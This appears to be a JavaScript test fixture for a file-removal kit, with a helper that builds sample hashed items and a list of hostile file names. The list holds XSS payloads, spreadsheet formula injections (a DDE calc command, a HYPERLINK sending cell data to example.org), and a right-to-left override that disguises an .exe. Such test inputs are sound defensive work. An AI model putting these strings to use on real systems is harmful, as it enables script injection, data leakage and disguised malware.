// Files for the removal kit, and names that somebody might give a file to do harm.

const PDQ = 'f8f8f0cee0f4a84f06370a22038f63f0b36e2ed596621e1d33e6b39c4e9c9b22';

/** An item as an app makes it from `hasher.hash`. */
export function kitItem(name, { quality = 87, picture = true, upright = false, note, video } = {}) {
  const pdq = { '512-nearest': { hash: PDQ, quality }, 'full-size': { hash: PDQ.replaceAll('f', '0'), quality } };
  return {
    name,
    note,
    video,
    hashes: {
      size: 12345,
      sha256: 'ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad',
      md5: '900150983cd24fb0d6963f7d28e17f72',
      picture: picture ? { width: 400, height: 300, pdq, upright: upright ? pdq : null, orientations: null } : null,
      decoder: picture ? 'own' : null,
      unhashed: picture ? null : 'unknown-format',
    },
  };
}

/** Markup, formulas, directions of writing, lengths, halves of characters. */
export const HOSTILE_NAMES = [
  '<script>alert(1)</script>.jpg',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</style></title><svg onload=alert(1)>',
  '&lt;b&gt;&amp;',
  '=HYPERLINK("https://example.org/?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '  =1+1',
  '\t=1+1',
  '\r\n=1+1',
  '＝1+1',
  'a","=1+1","b',
  'a;=1+1;b',
  'line\nbreak, and "quotes".jpg',
  'photo_\u202egpj.exe',
  '\u2066isolate\u2069\u200f.jpg',
  '\ufeffmark\u00ad.jpg',
  'null\u0000bell\u0007\u001b[31m.jpg',
  'half \ud800 of a pair.jpg',
  `${'w'.repeat(296)}.jpg`,
  '家族👨‍👩‍👧 خانواده.jpg',
  '{number} {phone}',
  '',
];
